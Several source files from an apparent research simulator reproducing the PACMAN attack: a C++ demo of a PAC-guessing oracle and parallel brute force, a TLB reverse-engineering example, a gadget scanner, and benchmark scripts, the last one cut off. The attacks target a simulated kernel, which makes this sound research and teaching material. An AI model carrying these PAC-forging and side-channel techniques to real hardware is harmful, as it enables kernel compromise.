 * health-tracked failover (runner/dispatch.hh): endpoints may die or
 * wedge mid-campaign and the fingerprint still matches.
 */

#include <cstdio>
#include <cstring>
#include <string>
#include <vector>

#include "attack/bruteforce.hh"
#include "attack/oracle.hh"
#include "kernel/layout.hh"
#include "runner/campaign.hh"
#include "runner/client.hh"
#include "runner/dispatch.hh"

using namespace pacman;
using namespace pacman::attack;
using namespace pacman::kernel;

namespace
{

void
demoOracle(Machine &machine, AttackerProcess &proc, GadgetKind kind)
{
    const bool data = kind == GadgetKind::Data;
    std::printf("--- %s PACMAN gadget ---\n",
                data ? "data" : "instruction");

    OracleConfig cfg;
    cfg.kind = kind;
    PacOracle oracle(proc, cfg);

    // Forge a pointer to a kernel object of our choosing.
    const isa::Addr target =
        data ? BenignDataBase + 37 * isa::PageSize
             : TrampolineBase + 37 * isa::PageSize;
    const uint64_t modifier = 0x5A5A;
    oracle.setTarget(target, modifier);
    std::printf("target kernel address 0x%016llx, modifier 0x%llx\n",
                (unsigned long long)target,
                (unsigned long long)modifier);

    // The ground truth (the kernel's secret — shown only to grade the
    // oracle, never used by it).
    const uint16_t truth = machine.kernel().truePac(
        target, modifier,
        data ? crypto::PacKeySelect::DA : crypto::PacKeySelect::IA);

    std::printf("%-12s %-14s %s\n", "guess", "probe misses",
                "oracle verdict");
    for (int delta : {-2, -1, 0, 1, 2}) {
        const uint16_t guess = uint16_t(truth + delta);
        const unsigned misses = oracle.probeMisses(guess);
        std::printf("0x%04x       %-14u %s%s\n", guess, misses,
                    misses >= cfg.missThreshold ? "CORRECT PAC"
                                                : "wrong",
                    delta == 0 ? "   <-- truth" : "");
    }
    std::printf("oracle queries so far: %llu, machine alive: %s\n\n",
                (unsigned long long)oracle.queries(),
                machine.core().el() == 0 ? "yes" : "no");
}

void
usage(const char *prog)
{
    std::printf(
        "usage: %s [--jobs N] [--no-snapshot] [--server ENDPOINT]\n"
        "          [--endpoints A,B,...] [--help]\n"
        "\n"
        "  --jobs N       run the closing brute-force demo on the\n"
        "                 parallel campaign runner with N worker\n"
        "                 threads (default 1).\n"
        "  --no-snapshot  re-provision each work item's replica from\n"
        "                 scratch instead of restoring a checkpoint\n"
        "                 (equivalent to PACMAN_DISABLE_SNAPSHOT=1).\n"
        "  --server E     also dispatch the campaign to a running\n"
        "                 pacman-oracled at E (unix:PATH,\n"
        "                 tcp:HOST:PORT or tcp:[V6]:PORT) and verify\n"
        "                 the remote fingerprint matches the\n"
        "                 in-process one.\n"
        "  --endpoints L  like --server, but spread the chunks over a\n"
        "                 comma-separated list of endpoints with\n"
        "                 health-tracked failover (runner/dispatch.hh):\n"
        "                 chunks on a dead or wedged endpoint are\n"
        "                 redispatched to the survivors, and the\n"
        "                 merged fingerprint still matches.\n"
        "  --help         show this message.\n"
        "\n"
        "The campaign splits the guess range into fixed-size chunks\n"
        "(8 guesses here); workers claim chunks from a shared queue,\n"
        "so the chunk size only sets the work-stealing granularity.\n"
        "Every chunk seeds its RNG from (campaign seed, item index),\n"
        "never from the claiming thread, and results merge in index\n"
        "order — the found PAC and merged statistics are therefore\n"
        "bit-identical for every --jobs value, and identical again\n"
        "with or without --no-snapshot (checkpoint restore rewinds\n"
        "the replica bit-exactly; tests/runner/test_snapshot_equiv.cc\n"
        "holds that line). Only the wall time changes.\n",
        prog);
}

} // namespace

int
main(int argc, char **argv)
{
    unsigned jobs = 1;
    bool snapshot = runner::snapshotReplicasDefault();
    std::string server;
    std::vector<std::string> endpoints;
    for (int i = 1; i < argc; ++i) {
        if (!std::strcmp(argv[i], "--jobs") && i + 1 < argc) {
            jobs = unsigned(std::strtoul(argv[++i], nullptr, 0));
        } else if (!std::strcmp(argv[i], "--no-snapshot")) {
            snapshot = false;
        } else if (!std::strcmp(argv[i], "--server") && i + 1 < argc) {
            server = argv[++i];
        } else if (!std::strcmp(argv[i], "--endpoints") &&
                   i + 1 < argc) {
            const std::string list = argv[++i];
            size_t pos = 0;
            while (pos < list.size()) {
                size_t next = list.find(',', pos);
                if (next == std::string::npos)
                    next = list.size();
                if (next > pos)
                    endpoints.push_back(list.substr(pos, next - pos));
                pos = next + 1;
            }
        } else if (!std::strcmp(argv[i], "--help")) {
            usage(argv[0]);
            return 0;
        }
    }

    Machine machine;
    AttackerProcess proc(machine);
    std::printf("== PAC oracle demo (Section 8.1) ==\n\n");

    demoOracle(machine, proc, GadgetKind::Data);
    demoOracle(machine, proc, GadgetKind::Instruction);

    // Mini brute force over a small window around the truth, run as
    // a campaign on the parallel runner. The campaign replicas boot
    // from this machine's seed, so they search for the same keys'
    // PAC; the output is identical for any --jobs value.
    const unsigned workers = runner::effectiveJobs(jobs);
    std::printf("--- brute force (windowed demo, %u worker%s) ---\n",
                workers, workers == 1 ? "" : "s");
    const isa::Addr target = BenignDataBase + 41 * isa::PageSize;
    const uint16_t truth = machine.kernel().truePac(
        target, 0x77, crypto::PacKeySelect::DA);
    const uint16_t start = uint16_t(truth & 0xFFF0);

    runner::BruteForceCampaignConfig cfg;
    cfg.replica.machine = machine.config();
    cfg.replica.target = target;
    cfg.replica.modifier = 0x77;
    cfg.first = start;
    cfg.last = uint16_t(start + 31);
    cfg.pool.jobs = jobs;
    cfg.pool.chunkSize = 8;
    cfg.replica.snapshot = snapshot;
    const auto campaign = runner::runBruteForceCampaign(cfg);
    const auto &stats = campaign.stats;
    if (stats.found) {
        std::printf("found PAC 0x%04x after %llu guesses "
                    "(truth 0x%04x) — %s\n",
                    *stats.found,
                    (unsigned long long)stats.guessesTested, truth,
                    *stats.found == truth ? "MATCH" : "MISMATCH");
        std::printf("campaign: %u worker%s, %.3f s wall, %llu/%llu "
                    "chunks merged\n", campaign.jobs,
                    campaign.jobs == 1 ? "" : "s", campaign.wallSeconds,
                    (unsigned long long)campaign.chunksMerged,
                    (unsigned long long)(campaign.chunksRun +
                                         campaign.chunksSkipped));
    } else {
        std::printf("no PAC found in the window (rerun; oracle "
                    "false negatives are retryable)\n");
    }

    // Client mode: the same campaign, chunk execution delegated to
    // pacman-oracled over the wire — one endpoint (--server) or a
    // failover pool (--endpoints). The merged output must be
    // byte-identical — the server runs the same chunk codec against
    // a replica provisioned from the bit-exact decoded config, and
    // which endpoint served a chunk never changes its payload.
    if (!server.empty() || !endpoints.empty()) {
        if (!server.empty())
            endpoints.insert(endpoints.begin(), server);
        std::printf("\n--- remote campaign via %zu endpoint%s ---\n",
                    endpoints.size(),
                    endpoints.size() == 1 ? "" : "s");
        try {
            runner::DispatchConfig dcfg;
            dcfg.endpoints = endpoints;
            dcfg.chunkDeadlineSeconds = 30;
            const auto remote =
                runner::runBruteForceCampaignRemote(cfg, dcfg);
            const bool identical =
                remote.fingerprint() == campaign.fingerprint();
            if (remote.stats.found) {
                std::printf("server found PAC 0x%04x — %s\n",
                            *remote.stats.found,
                            *remote.stats.found == truth ? "MATCH"
                                                         : "MISMATCH");
            }
            if (remote.dispatch.faults() > 0) {
                std::printf(
                    "survived %llu endpoint fault%s (%llu chunk%s "
                    "redispatched)\n",
                    (unsigned long long)remote.dispatch.faults(),
                    remote.dispatch.faults() == 1 ? "" : "s",
                    (unsigned long long)remote.dispatch.retries,
                    remote.dispatch.retries == 1 ? "" : "s");
            }
            std::printf("remote fingerprint %s the in-process one\n",
                        identical ? "IDENTICAL to"
                                  : "DIVERGED from");
            if (!identical)
                return 1;
        } catch (const std::exception &e) {
            std::printf("remote campaign failed: %s\n", e.what());
            std::printf("(is pacman-oracled running? start it with\n"
                        "   pacman-oracled --socket /tmp/oracled.sock)\n");
            return 1;
        }
    }
    return 0;
}
