/**
 * @file
 * Reverse engineer the TLB hierarchy from userspace, the way the
 * paper does in Section 7: stride/N sweeps whose latency knees reveal
 * each structure's geometry (a compact Figure 5).
 *
 *   $ ./example_tlb_reverse_engineer
 */

#include <cstdio>

#include "attack/reveng.hh"
#include "base/stats.hh"
#include "kernel/layout.hh"

using namespace pacman;
using namespace pacman::attack;

namespace
{

void
printCurve(const char *name, const std::vector<SweepPoint> &curve)
{
    std::printf("%s\n  N      : ", name);
    for (const auto &p : curve)
        std::printf("%5u", p.n);
    std::printf("\n  cycles : ");
    for (const auto &p : curve)
        std::printf("%5.0f", p.medianLatency);
    std::printf("\n\n");
}

} // namespace

int
main()
{
    kernel::Machine machine;
    AttackerProcess proc(machine);
    RevEng reveng(proc);
    reveng.enablePmc(); // the paper's kext-exposed cycle counter

    std::printf("== TLB reverse engineering (Section 7) ==\n\n");

    std::printf("[1] dTLB sweep, stride 256 x 16 KB (+i*128B):\n");
    printCurve("    expect a knee at N = 12 (dTLB ways)",
               reveng.dataSweep(256ull * isa::PageSize, 16, 9, true));

    std::printf("[2] L2 TLB sweep, stride 2048 x 16 KB (+i*128B):\n");
    printCurve("    expect a second knee at N = 23 (L2 TLB ways)",
               reveng.dataSweep(2048ull * isa::PageSize, 25, 9, true));

    std::printf("[3] cache sweep, stride 256 x 128 B (no offset):\n");
    printCurve("    expect a knee at N = 4 (observed L1D ways)",
               reveng.dataSweep(256ull * 128, 8, 9, false));

    std::printf("[4] iTLB sweep, branches at stride 32 x 16 KB:\n");
    printCurve("    expect a *drop* at N = 4 (iTLB entry spills "
               "into the dTLB)",
               reveng.instSweep(32ull * isa::PageSize, 8, 9));

    std::printf("[5] cross-privilege sharing probes (Figure 6):\n");
    std::printf("    kernel data evicts user dTLB entries : %s\n",
                reveng.kernelDataEvictsUserDtlb() ? "yes (shared)"
                                                  : "no");
    const unsigned spill = reveng.kernelIfetchSpillThreshold();
    std::printf("    kernel ifetches before dTLB spill    : %u "
                "(iTLB ways + 1)\n", spill);

    std::printf("\nConclusion: iTLB 4x32 (per-EL), dTLB 12x256 "
                "(shared), L2 TLB 23x2048 (shared) — Figure 6.\n");
    return 0;
}
