/**
 * @file
 * Hunt for PACMAN gadgets with the static scanner (paper Section 4.3):
 * first in our own kernel image, then in a synthetic kernel-scale
 * binary with XNU-like PA code patterns.
 *
 *   $ ./example_gadget_hunt [num_functions]
 */

#include <cstdio>
#include <cstdlib>

#include "analysis/scanner.hh"
#include "analysis/synth.hh"
#include "kernel/machine.hh"

using namespace pacman;
using namespace pacman::analysis;

namespace
{

void
report(const char *name, const ScanReport &r,
       const asmjit::Program &prog, unsigned examples)
{
    std::printf("%s:\n", name);
    std::printf("  instructions scanned : %llu\n",
                (unsigned long long)r.instsScanned);
    std::printf("  conditional branches : %llu\n",
                (unsigned long long)r.condBranches);
    std::printf("  PACMAN gadgets       : %llu "
                "(%llu data, %llu instruction)\n",
                (unsigned long long)r.total(),
                (unsigned long long)r.dataCount(),
                (unsigned long long)r.instCount());
    std::printf("  mean branch-to-transmit distance: %.1f "
                "instructions\n", r.meanDistance());
    for (unsigned i = 0; i < examples && i < r.gadgets.size(); ++i)
        std::printf("    e.g. %s\n",
                    describeGadget(r.gadgets[i], prog).c_str());
    std::printf("\n");
}

} // namespace

int
main(int argc, char **argv)
{
    std::printf("== PACMAN gadget hunt (Section 4.3) ==\n\n");
    GadgetScanner scanner(32); // the paper's 32-instruction window

    // 1. Our own kernel: the Section 8 PoC gadgets must show up.
    kernel::Machine machine;
    const auto &kernel_image = machine.kernel().image();
    report("pacman kernel image", scanner.scan(kernel_image),
           kernel_image, 4);

    // 2. A kernel-scale synthetic binary with PA-hardened patterns.
    SynthConfig cfg;
    if (argc > 1)
        cfg.numFunctions = unsigned(std::strtoul(argv[1], nullptr, 0));
    const auto synth = generateSyntheticKernel(cfg, 0x10000);
    report("synthetic PA-hardened kernel", scanner.scan(synth), synth,
           4);

    std::printf("Paper (real XNU 12.2.1): 55159 gadgets, 13867 data / "
                "41292 instruction, mean distance 8.1.\n");
    std::printf("The qualitative finding reproduces: gadgets are "
                "plentiful and close to their branches.\n");
    return 0;
}
