#!/usr/bin/env python3
"""Run the micro_sim_perf benchmark binary and distil its JSON output
into the checked-in perf baseline (BENCH_PR9.json).

The baseline captures the handful of end-to-end numbers the project
optimizes for — guest MIPS on the Figure-8 training loop (the default
superblock configuration, the decode-cache-only configuration, and
the slow reference path), the superblock engine's own telemetry
(threaded-dispatch instruction rate, dispatch hit rate, invalidation
count), oracle queries per second, the wall clock of a Figure-8
subset extrapolated to the paper's 20000-trial campaign, and the
replica checkpointing numbers (full provision cost, per-item restore
cost, and the snapshot-vs-fresh accuracy-campaign speedup) — in a
direction-annotated schema that tools/perf_compare.py can diff across
commits. Metrics new in this baseline simply show as "added" against
older baselines; the compare gate only fires on shared metrics.

With --server-bench pointing at build/bench/server_campaign, the
baseline additionally records the oracle server's single-connection
QUERY throughput and the remote-vs-local campaign wall-clock overhead
(parsed from the bench's BENCH JSON lines).

Usage:
    python3 tools/perf_smoke.py --bench build/bench/micro_sim_perf \
        --output BENCH_PR9.json [--min-time 0.5] \
        [--server-bench build/bench/server_campaign]
"""

import argparse
import json
import subprocess
import sys

SCHEMA = "pacman-bench-v1"

# Paper scale: Figure 8 runs 20000 trials; BM_Fig8Subset runs 16 per
# benchmark iteration.
FIG8_CAMPAIGN_TRIALS = 20000
FIG8_SUBSET_TRIALS_PER_ITER = 16


def run_benchmark(bench, min_time):
    """Run the benchmark binary, returning google-benchmark's JSON."""
    cmd = [
        bench,
        "--benchmark_format=json",
        f"--benchmark_min_time={min_time}",
    ]
    proc = subprocess.run(cmd, stdout=subprocess.PIPE, check=True)
    return json.loads(proc.stdout)


def index_by_name(raw):
    return {b["name"]: b for b in raw.get("benchmarks", [])}


def to_seconds(value, unit):
    return value * {"ns": 1e-9, "us": 1e-6, "ms": 1e-3, "s": 1.0}[unit]


def distil(raw):
    """Reduce google-benchmark JSON to the headline metric dict."""
    by_name = index_by_name(raw)

    def need(name):
        # Benchmarks registered with a pinned Iterations() count carry
        # an "/iterations:N" suffix in google-benchmark's JSON; accept
        # the bare name either way.
        if name in by_name:
            return by_name[name]
        for full, bench in by_name.items():
            if full.startswith(name + "/iterations:"):
                return bench
        raise KeyError(f"benchmark '{name}' missing from output")

    fast = need("BM_Fig8TrainingLoop/2")
    decode_only = need("BM_Fig8TrainingLoop/1")
    slow = need("BM_Fig8TrainingLoop/0")
    oracle = need("BM_OracleQuery")
    syscall = need("BM_GuestSyscall")
    subset = need("BM_Fig8Subset")
    provision = need("BM_ReplicaProvision")
    restore = need("BM_SnapshotRestore")
    acc_snap = need("BM_AccuracyCampaign/1")
    acc_fresh = need("BM_AccuracyCampaign/0")

    subset_iter_s = to_seconds(subset["real_time"], subset["time_unit"])
    campaign_wall_s = (subset_iter_s / FIG8_SUBSET_TRIALS_PER_ITER *
                      FIG8_CAMPAIGN_TRIALS)

    metrics = {
        # Default (superblock) configuration — the shipped build.
        "fig8_guest_mips": {
            "value": fast["guest_insts"] / 1e6,
            "better": "higher",
        },
        # Decode-cache-only configuration: what fig8_guest_mips
        # measured before the superblock engine existed, kept so the
        # engine's own contribution stays attributable.
        "fig8_decode_only_mips": {
            "value": decode_only["guest_insts"] / 1e6,
            "better": "higher",
        },
        "fig8_guest_mips_slowpath": {
            "value": slow["guest_insts"] / 1e6,
            "better": "higher",
        },
        # Superblock engine telemetry (from the default-config run):
        # the rate of instructions retired via threaded dispatch, the
        # dispatch hit rate, and stale-generation/epoch invalidations
        # over the measured region (a handful from warm-up churn is
        # normal; a large count means blocks are thrashing).
        "fig8_superblock_mips": {
            "value": fast["sb_insts"] / 1e6,
            "better": "higher",
        },
        "superblock_hit_rate": {
            "value": fast["sb_hit_rate"],
            "better": "higher",
        },
        "superblock_invalidations": {
            "value": fast["sb_invalidations"],
            "better": "lower",
        },
        "fig8_queries_per_sec": {
            "value": fast["queries_per_sec"],
            "better": "higher",
        },
        "fig8_decode_hit_rate": {
            "value": fast["decode_hit_rate"],
            "better": "higher",
        },
        "oracle_queries_per_sec": {
            "value": oracle["queries_per_sec"],
            "better": "higher",
        },
        "syscall_guest_mips": {
            "value": syscall["guest_insts"] / 1e6,
            "better": "higher",
        },
        "fig8_subset_wall_s": {
            "value": campaign_wall_s,
            "better": "lower",
        },
    }
    speedup = (metrics["fig8_guest_mips"]["value"] /
               metrics["fig8_guest_mips_slowpath"]["value"])
    metrics["fastpath_speedup"] = {"value": speedup, "better": "higher"}
    # The superblock engine's marginal gain over the decode cache it
    # extends (both sides run the identical pinned query sequence).
    metrics["superblock_speedup"] = {
        "value": (metrics["fig8_guest_mips"]["value"] /
                  metrics["fig8_decode_only_mips"]["value"]),
        "better": "higher",
    }

    # Replica checkpointing (the provision-once/restore-per-item fast
    # path): what one worker pays to provision a replica from scratch,
    # what a per-item checkpoint restore costs instead, and the
    # end-to-end accuracy-campaign speedup the trade buys (both modes
    # produce bit-identical fingerprints; tests/runner/
    # test_snapshot_equiv.cc holds that line).
    metrics["provision_ms"] = {
        "value": to_seconds(provision["real_time"],
                            provision["time_unit"]) * 1e3,
        "better": "lower",
    }
    metrics["restore_us"] = {
        "value": to_seconds(restore["real_time"],
                            restore["time_unit"]) * 1e6,
        "better": "lower",
    }
    metrics["accuracy_trials_per_sec"] = {
        "value": acc_snap["trials_per_sec"],
        "better": "higher",
    }
    metrics["accuracy_snapshot_speedup"] = {
        "value": (to_seconds(acc_fresh["real_time"],
                             acc_fresh["time_unit"]) /
                  to_seconds(acc_snap["real_time"],
                             acc_snap["time_unit"])),
        "better": "higher",
    }
    return metrics


def bench_json_lines(output):
    """Parse `BENCH {...}` JSON lines from a bench binary's stdout."""
    records = []
    for line in output.splitlines():
        if line.startswith("BENCH "):
            records.append(json.loads(line[len("BENCH "):]))
    return records


def server_metrics(server_bench, workdir):
    """Run bench/server_campaign --quick and distil its BENCH lines."""
    proc = subprocess.run(
        [server_bench, "--quick", "--workdir", workdir],
        stdout=subprocess.PIPE, check=True, text=True)
    records = bench_json_lines(proc.stdout)

    metrics = {}
    throughput = [r for r in records
                  if r.get("scenario") == "query_throughput"]
    if throughput:
        metrics["server_queries_per_sec"] = {
            "value": throughput[-1]["queries_per_sec"],
            "better": "higher",
        }
    # Dispatch overhead at the highest measured concurrency: remote
    # wall over local wall for the fault-free brute-force sweep.
    brute = [r for r in records
             if r.get("scenario") == "bruteforce"
             and r.get("fault_rate") == 0.0]
    if brute:
        best = max(brute, key=lambda r: r["jobs"])
        if best["wall_local_s"] > 0:
            metrics["server_dispatch_overhead"] = {
                "value": best["wall_remote_s"] / best["wall_local_s"],
                "better": "lower",
            }
    if any(not r.get("identical", True) for r in records):
        raise RuntimeError("server_campaign reported a fingerprint "
                           "divergence")
    return metrics


def main(argv=None):
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--bench", default="build/bench/micro_sim_perf",
                        help="path to the micro_sim_perf binary")
    parser.add_argument("--output", default="BENCH_PR9.json",
                        help="where to write the distilled baseline")
    parser.add_argument("--min-time", default="0.5",
                        help="per-benchmark --benchmark_min_time")
    parser.add_argument("--server-bench", default=None,
                        help="path to bench/server_campaign; adds the "
                             "oracle-server throughput metrics")
    parser.add_argument("--server-workdir", default="server_artifacts",
                        help="artifact dir for --server-bench")
    args = parser.parse_args(argv)

    raw = run_benchmark(args.bench, args.min_time)
    metrics = distil(raw)
    if args.server_bench:
        metrics.update(server_metrics(args.server_bench,
                                      args.server_workdir))

    result = {
        "schema": SCHEMA,
        "context": {
            "host": raw.get("context", {}).get("host_name", "unknown"),
            "num_cpus": raw.get("context", {}).get("num_cpus", 0),
        },
        "metrics": metrics,
    }
    with open(args.output, "w") as f:
        json.dump(result, f, indent=2, sort_keys=True)
        f.write("\n")

    for name in sorted(metrics):
        print(f"{name}: {metrics[name]['value']:.4g}")
    print(f"wrote {args.output}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
