#!/usr/bin/env python3
"""Run the micro_sim_perf benchmark binary and distil its JSON output
into the checked-in perf baseline (BENCH_PR10.json).

The baseline captures the handful of end-to-end numbers the project
optimizes for — guest MIPS on the Figure-8 training loop (the default
superblock+timing-trace configuration, the decode-cache-only
configuration, and the slow reference path), the superblock engine's
own telemetry (threaded-dispatch instruction rate, dispatch hit rate,
invalidation count), the timing-trace memoization telemetry (replay
rate and guard-break count; DESIGN.md §4k), oracle queries per
second, the wall clock of a Figure-8 subset extrapolated to the
paper's 20000-trial campaign, and the replica checkpointing numbers
(full provision cost, per-item restore cost, and the snapshot-vs-
fresh accuracy-campaign speedup) — in a direction-annotated schema
that tools/perf_compare.py can diff across commits. Metrics new in
this baseline simply show as "added" against older baselines; the
compare gate only fires on shared metrics.

Benchmarks run --repetitions times (default 5); every distilled value
is the across-repetition *median*, and each metric carries the
run-to-run coefficient of variation ("cv", fractional) alongside it
so a noisy measurement is visible in the baseline itself rather than
silently baked into a single sample.

With --server-bench pointing at build/bench/server_campaign, the
baseline additionally records the oracle server's single-connection
QUERY throughput and the remote-vs-local campaign wall-clock overhead
(parsed from the bench's BENCH JSON lines).

Usage:
    python3 tools/perf_smoke.py --bench build/bench/micro_sim_perf \
        --output BENCH_PR10.json [--min-time 0.5] [--repetitions 5] \
        [--server-bench build/bench/server_campaign] \
        [--supersedes BENCH_PR9.json] [--provenance "why rebaselined"]
"""

import argparse
import json
import math
import subprocess
import sys

SCHEMA = "pacman-bench-v1"

# Paper scale: Figure 8 runs 20000 trials; BM_Fig8Subset runs 16 per
# benchmark iteration.
FIG8_CAMPAIGN_TRIALS = 20000
FIG8_SUBSET_TRIALS_PER_ITER = 16


def run_benchmark(bench, min_time, repetitions):
    """Run the benchmark binary, returning google-benchmark's JSON."""
    cmd = [
        bench,
        "--benchmark_format=json",
        f"--benchmark_min_time={min_time}",
    ]
    if repetitions > 1:
        cmd += [
            f"--benchmark_repetitions={repetitions}",
            "--benchmark_report_aggregates_only=true",
        ]
    proc = subprocess.run(cmd, stdout=subprocess.PIPE, check=True)
    return json.loads(proc.stdout)


def index_runs(raw):
    """Map base benchmark name -> {aggregate_name: benchmark entry}.

    Without repetitions each benchmark appears once, keyed under the
    pseudo-aggregate "value"; with --benchmark_repetitions the JSON
    carries one entry per aggregate (mean/median/stddev/cv) whose
    run_name is the base name.
    """
    runs = {}
    for b in raw.get("benchmarks", []):
        base = b.get("run_name", b["name"])
        agg = b.get("aggregate_name", "value")
        runs.setdefault(base, {})[agg] = b
    return runs


def to_seconds(value, unit):
    return value * {"ns": 1e-9, "us": 1e-6, "ms": 1e-3, "s": 1.0}[unit]


def distil(raw):
    """Reduce google-benchmark JSON to the headline metric dict."""
    runs = index_runs(raw)

    def need(name):
        # Benchmarks registered with a pinned Iterations() count carry
        # an "/iterations:N" suffix in google-benchmark's JSON; accept
        # the bare name either way. Returns (median entry, cv entry or
        # None): the median is the distilled value, the cv entry holds
        # the fractional run-to-run variation of every field.
        for base, aggs in runs.items():
            if base == name or base.startswith(name + "/iterations:"):
                value = aggs.get("median") or aggs.get("value")
                if value is not None:
                    return value, aggs.get("cv")
        raise KeyError(f"benchmark '{name}' missing from output")

    fast, fast_cv = need("BM_Fig8TrainingLoop/2")
    decode_only, decode_cv = need("BM_Fig8TrainingLoop/1")
    slow, slow_cv = need("BM_Fig8TrainingLoop/0")
    oracle, oracle_cv = need("BM_OracleQuery")
    syscall, syscall_cv = need("BM_GuestSyscall")
    subset, subset_cv = need("BM_Fig8Subset")
    provision, provision_cv = need("BM_ReplicaProvision")
    restore, restore_cv = need("BM_SnapshotRestore")
    acc_snap, acc_snap_cv = need("BM_AccuracyCampaign/1")
    acc_fresh, acc_fresh_cv = need("BM_AccuracyCampaign/0")

    def metric(value, better, cv_entry, cv_field):
        m = {"value": value, "better": better}
        # A constant-zero counter yields cv = 0/0 = NaN; keep the
        # baseline strict JSON by recording only finite CVs.
        if cv_entry is not None and cv_field in cv_entry:
            cv = cv_entry[cv_field]
            if math.isfinite(cv):
                m["cv"] = cv
        return m

    subset_iter_s = to_seconds(subset["real_time"], subset["time_unit"])
    campaign_wall_s = (subset_iter_s / FIG8_SUBSET_TRIALS_PER_ITER *
                      FIG8_CAMPAIGN_TRIALS)

    metrics = {
        # Default (superblock + timing-trace) configuration — the
        # shipped build.
        "fig8_guest_mips": metric(
            fast["guest_insts"] / 1e6, "higher", fast_cv,
            "guest_insts"),
        # Decode-cache-only configuration: what fig8_guest_mips
        # measured before the superblock engine existed, kept so the
        # engine's own contribution stays attributable.
        "fig8_decode_only_mips": metric(
            decode_only["guest_insts"] / 1e6, "higher", decode_cv,
            "guest_insts"),
        "fig8_guest_mips_slowpath": metric(
            slow["guest_insts"] / 1e6, "higher", slow_cv,
            "guest_insts"),
        # Superblock engine telemetry (from the default-config run):
        # the rate of instructions retired via threaded dispatch, the
        # dispatch hit rate, and stale-generation/epoch invalidations
        # over the measured region (a handful from warm-up churn is
        # normal; a large count means blocks are thrashing).
        "fig8_superblock_mips": metric(
            fast["sb_insts"] / 1e6, "higher", fast_cv, "sb_insts"),
        "superblock_hit_rate": metric(
            fast["sb_hit_rate"], "higher", fast_cv, "sb_hit_rate"),
        "superblock_invalidations": metric(
            fast["sb_invalidations"], "lower", fast_cv,
            "sb_invalidations"),
        # Timing-trace memoization telemetry (DESIGN.md §4k): the
        # fraction of cached-block dispatches that replayed the
        # memoized hierarchy walk, the memory ops that skipped a live
        # walk, and the guard-break count over the pinned measured
        # region (breaks here are warm-up/eviction churn; a large
        # count means traces are thrashing).
        "trace_replay_rate": metric(
            fast["trace_replay_rate"], "higher", fast_cv,
            "trace_replay_rate"),
        "trace_ops_replayed": metric(
            fast["trace_ops_replayed"], "higher", fast_cv,
            "trace_ops_replayed"),
        "trace_guard_breaks": metric(
            fast["trace_guard_breaks"], "lower", fast_cv,
            "trace_guard_breaks"),
        "fig8_queries_per_sec": metric(
            fast["queries_per_sec"], "higher", fast_cv,
            "queries_per_sec"),
        "fig8_decode_hit_rate": metric(
            fast["decode_hit_rate"], "higher", fast_cv,
            "decode_hit_rate"),
        "oracle_queries_per_sec": metric(
            oracle["queries_per_sec"], "higher", oracle_cv,
            "queries_per_sec"),
        "syscall_guest_mips": metric(
            syscall["guest_insts"] / 1e6, "higher", syscall_cv,
            "guest_insts"),
        "fig8_subset_wall_s": metric(
            campaign_wall_s, "lower", subset_cv, "real_time"),
    }
    speedup = (metrics["fig8_guest_mips"]["value"] /
               metrics["fig8_guest_mips_slowpath"]["value"])
    metrics["fastpath_speedup"] = {"value": speedup, "better": "higher"}
    # The superblock engine's marginal gain over the decode cache it
    # extends (both sides run the identical pinned query sequence).
    metrics["superblock_speedup"] = {
        "value": (metrics["fig8_guest_mips"]["value"] /
                  metrics["fig8_decode_only_mips"]["value"]),
        "better": "higher",
    }

    # Replica checkpointing (the provision-once/restore-per-item fast
    # path): what one worker pays to provision a replica from scratch,
    # what a per-item checkpoint restore costs instead, and the
    # end-to-end accuracy-campaign speedup the trade buys (both modes
    # produce bit-identical fingerprints; tests/runner/
    # test_snapshot_equiv.cc holds that line).
    metrics["provision_ms"] = metric(
        to_seconds(provision["real_time"],
                   provision["time_unit"]) * 1e3,
        "lower", provision_cv, "real_time")
    metrics["restore_us"] = metric(
        to_seconds(restore["real_time"],
                   restore["time_unit"]) * 1e6,
        "lower", restore_cv, "real_time")
    metrics["accuracy_trials_per_sec"] = metric(
        acc_snap["trials_per_sec"], "higher", acc_snap_cv,
        "trials_per_sec")
    metrics["accuracy_snapshot_speedup"] = {
        "value": (to_seconds(acc_fresh["real_time"],
                             acc_fresh["time_unit"]) /
                  to_seconds(acc_snap["real_time"],
                             acc_snap["time_unit"])),
        "better": "higher",
    }
    return metrics


def bench_json_lines(output):
    """Parse `BENCH {...}` JSON lines from a bench binary's stdout."""
    records = []
    for line in output.splitlines():
        if line.startswith("BENCH "):
            records.append(json.loads(line[len("BENCH "):]))
    return records


def server_metrics(server_bench, workdir):
    """Run bench/server_campaign --quick and distil its BENCH lines."""
    proc = subprocess.run(
        [server_bench, "--quick", "--workdir", workdir],
        stdout=subprocess.PIPE, check=True, text=True)
    records = bench_json_lines(proc.stdout)

    metrics = {}
    throughput = [r for r in records
                  if r.get("scenario") == "query_throughput"]
    if throughput:
        metrics["server_queries_per_sec"] = {
            "value": throughput[-1]["queries_per_sec"],
            "better": "higher",
        }
    # Dispatch overhead at the highest measured concurrency: remote
    # wall over local wall for the fault-free brute-force sweep.
    brute = [r for r in records
             if r.get("scenario") == "bruteforce"
             and r.get("fault_rate") == 0.0]
    if brute:
        best = max(brute, key=lambda r: r["jobs"])
        if best["wall_local_s"] > 0:
            metrics["server_dispatch_overhead"] = {
                "value": best["wall_remote_s"] / best["wall_local_s"],
                "better": "lower",
            }
    if any(not r.get("identical", True) for r in records):
        raise RuntimeError("server_campaign reported a fingerprint "
                           "divergence")
    return metrics


def main(argv=None):
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--bench", default="build/bench/micro_sim_perf",
                        help="path to the micro_sim_perf binary")
    parser.add_argument("--output", default="BENCH_PR10.json",
                        help="where to write the distilled baseline")
    parser.add_argument("--min-time", default="0.5",
                        help="per-benchmark --benchmark_min_time")
    parser.add_argument("--repetitions", type=int, default=5,
                        help="benchmark repetitions; values are "
                             "medians across them, with run-to-run "
                             "CV recorded per metric")
    parser.add_argument("--server-bench", default=None,
                        help="path to bench/server_campaign; adds the "
                             "oracle-server throughput metrics")
    parser.add_argument("--server-workdir", default="server_artifacts",
                        help="artifact dir for --server-bench")
    parser.add_argument("--supersedes", default=None,
                        help="baseline file this measurement replaces "
                             "(recorded as provenance)")
    parser.add_argument("--provenance", default=None,
                        help="one-line reason this baseline was "
                             "re-measured (recorded in the output)")
    args = parser.parse_args(argv)

    raw = run_benchmark(args.bench, args.min_time, args.repetitions)
    metrics = distil(raw)
    if args.server_bench:
        metrics.update(server_metrics(args.server_bench,
                                      args.server_workdir))

    result = {
        "schema": SCHEMA,
        "context": {
            "host": raw.get("context", {}).get("host_name", "unknown"),
